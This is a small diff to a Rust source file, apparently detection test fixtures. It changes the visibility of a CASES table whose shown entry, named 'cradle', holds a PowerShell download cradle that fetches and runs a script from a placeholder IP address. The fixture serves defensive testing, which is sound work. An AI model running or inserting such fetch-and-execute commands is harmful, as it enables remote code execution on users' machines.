@@ -2,7 +2,7 @@
 //! documentation; nothing is there.
 
 /// Name, script, acts.
-pub(super) const CASES: &[(&str, &str, &[&str])] = &[
+pub(in super::super) const CASES: &[(&str, &str, &[&str])] = &[
     (
         "cradle",
         "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')",
